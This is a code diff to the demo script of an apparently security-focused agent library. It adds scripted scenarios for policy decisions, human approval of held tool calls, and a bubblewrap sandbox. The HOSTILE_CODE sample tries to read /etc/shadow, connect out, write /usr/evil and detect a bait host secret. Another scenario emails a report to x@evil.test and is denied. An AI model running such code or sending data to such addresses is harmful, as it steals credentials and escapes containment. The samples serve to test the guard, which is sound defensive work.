@@ -21,6 +21,7 @@ import shutil
 import sqlite3
 import sys
 import tempfile
+from collections.abc import Callable
 from dataclasses import dataclass
 from importlib.resources import files
 from pathlib import Path
@@ -31,6 +32,7 @@ from langchain_core.tools import BaseTool, tool
 from langgraph.checkpoint.memory import InMemorySaver
 from langgraph.graph import START, StateGraph
 from langgraph.prebuilt import tools_condition
+from langgraph.types import Command
 
 from langchain_secure._format import format_table
 from langchain_secure.audit import AuditLog, SQLiteAuditStore, verify_log
@@ -53,7 +55,28 @@ class Scenario:
     steps: list[Any]
     expected: list[str]
     persona: str = "analyst"
+    review: Callable[[dict[str, Any]], dict[str, Any]] | None = None
+    """The scripted reviewer: answers each action request of an approval interrupt."""
 
+
+HOSTILE_CODE = """\
+import os, socket
+attempts = {
+    "read /etc/shadow": lambda: open("/etc/shadow").read(),
+    "connect to example.com": lambda: socket.create_connection(("example.com", 443), 2),
+    "write /usr/evil": lambda: open("/usr/evil", "w"),
+}
+for name, attempt in attempts.items():
+    try:
+        attempt()
+        print(name + ": SUCCEEDED")
+    except Exception as exc:
+        print(name + ": blocked (" + type(exc).__name__ + ")")
+print("host secret visible: " + str("DEMO_HOST_SECRET" in os.environ))
+"""
+
+
+REVIEWER = "dana (a scripted reviewer)"
 
 SCENARIOS = [
     Scenario("allowed call", "What is our refund policy?",
@@ -70,8 +93,15 @@ SCENARIOS = [
              [[tool_call("read_file", path="${WORKSPACE}/reports/q3.txt")],
               [tool_call("send_email", to="x@evil.test", subject="q3", body="...")],
               [tool_call("send_email", to="cfo@example.com", subject="q3", body="...")]],
-             ["allow", "deny", "require_approval"]),
+             ["allow", "deny", "require_approval"],
+             # the reviewer lets the report go to the CFO, the address the user meant
+             review=lambda action: {"type": "approve"}
+             if action["args"].get("to") == "cfo@example.com" else {"type": "reject"}),
+    Scenario("hostile code in the sandbox",
+             "Plot our sales. (The code it writes also tries to steal and escape.)",
+             [[tool_call("run_python", code=HOSTILE_CODE)]], ["allow"]),
 ]
+
 
 
 def _tools(workspace: Path, outbox: list[dict[str, str]]) -> list[BaseTool]:
@@ -109,6 +139,17 @@ def _tools(workspace: Path, outbox: list[dict[str, str]]) -> list[BaseTool]:
         return "deleted"
 
     return [search_docs, read_file, run_sql, send_email, delete_customer]
+
+
+def _sandbox_report(messages: list[Any]) -> tuple[str, bool]:
+    """The sandboxed tool's output, and whether every attempt was contained."""
+    from langchain_core.messages import ToolMessage
+
+    output = next((str(m.content) for m in messages
+                   if isinstance(m, ToolMessage) and m.name == "run_python"), "")
+    contained = ("SUCCEEDED" not in output and "host secret visible: False" in output
+                 and output.count("blocked (") == 3)
+    return output, contained
 
 
 def _graph(guard: Guard, tools: list[BaseTool], steps: list[Any]) -> Any:
@@ -189,7 +230,11 @@ def run_demo(out: TextIO | None = None, *,
         guard = Guard(load_policy_text(template.replace("${WORKSPACE}", ws),
                                        filename="demo/policy.yaml"), audit=audit)
         outbox: list[dict[str, str]] = []
-        tools = _tools(workspace, outbox)
+        os.environ["DEMO_HOST_SECRET"] = "sk-demo-host-secret"  # noqa: S105 - bait
+        tools = [*_tools(workspace, outbox), guard.python_tool()]
+        sandbox_output = ""
+        reviews: list[tuple[int, Any, Any]] = []
+        shown: list[Decision] = []
         seen: list[Decision] = []
         guard.subscribe(seen.append)
 
@@ -198,12 +243,27 @@ def run_demo(out: TextIO | None = None, *,
         for number, scenario in enumerate(SCENARIOS, 1):
             start = len(seen)
             graph = _graph(guard, tools, _substitute(scenario.steps, ws))
-            graph.invoke({"messages": [HumanMessage(scenario.request)]},
-                         {"configurable": {"thread_id": f"demo-{number}",
-                                           "persona": scenario.persona}})
-            decisions = seen[start:]
+            config = {"configurable": {"thread_id": f"demo-{number}",
+                                       "persona": scenario.persona}}
+            result = graph.invoke({"messages": [HumanMessage(scenario.request)]}, config)
+            while "__interrupt__" in result and scenario.review is not None:
+                request = result["__interrupt__"][0].value
+                answers = [scenario.review(a) for a in request["action_requests"]]
+                reviews.extend((number, a, d) for a, d in
+                               zip(request["action_requests"], answers, strict=True))
+                result = graph.invoke(Command(resume={"decisions": answers,
+                                                      "reviewer": REVIEWER}), config)
+            # a node resumed after approval decides its batch again: show each call once
+            firsts: dict[Any, Decision] = {}
+            for d in seen[start:]:
+                firsts.setdefault(d.tool_call_id, d)
+            decisions = list(firsts.values())
+            shown.extend(decisions)
             actual = [d.action.value for d in decisions]
             ok = actual == scenario.expected
+            if any(d.tool == "run_python" for d in decisions):
+                sandbox_output, contained = _sandbox_report(result["messages"])
+                ok = ok and contained
             failures += not ok
             for i, d in enumerate(decisions):
                 rows.append([str(number) if i == 0 else "", scenario.title if i == 0 else "",
@@ -212,12 +272,21 @@ def run_demo(out: TextIO | None = None, *,
 
     print("langchain-secure demo: a guarded LangGraph agent, persona 'analyst'\n", file=out)
     print(format_table(rows), file=out)
-    counts = {a: sum(d.action.value == a for d in seen)
+    for number, action, answer in reviews:
+        print(f"\nScenario {number}: {action['name']}({action['args'].get('to', '')}) was held "
+              f"by {action['rule']}; the reviewer ({REVIEWER}) said {answer['type']}.",
+              file=out)
+    if sandbox_output:
+        print("\nWhat the hostile code saw inside the sandbox (bubblewrap):\n", file=out)
+        print("\n".join("  " + line for line in sandbox_output.strip().splitlines()), file=out)
+    counts = {a: sum(d.action.value == a for d in shown)
               for a in ("allow", "deny", "require_approval")}
-    print(f"\n{len(seen)} tool calls: {counts['allow']} allowed, {counts['deny']} denied, "
-          f"{counts['require_approval']} held for approval; emails sent: {len(outbox)}",
-          file=out)
-    audit.close()
+    approved = sum(answer["type"] == "approve" for _, _, answer in reviews)
+    print(f"\n{len(shown)} tool calls: {counts['allow']} allowed, {counts['deny']} denied, "
+          f"{counts['require_approval']} held for approval ({approved} approved); "
+          f"emails sent: {len(outbox)}", file=out)
+    guard.close()  # closes the sandbox pool and signs the audit log's final checkpoint
+    os.environ.pop("DEMO_HOST_SECRET", None)
     failures += _show_audit(audit_path, audit, out)
     if failures:
         print(f"{failures} scenario(s) did not get the expected decisions", file=out)
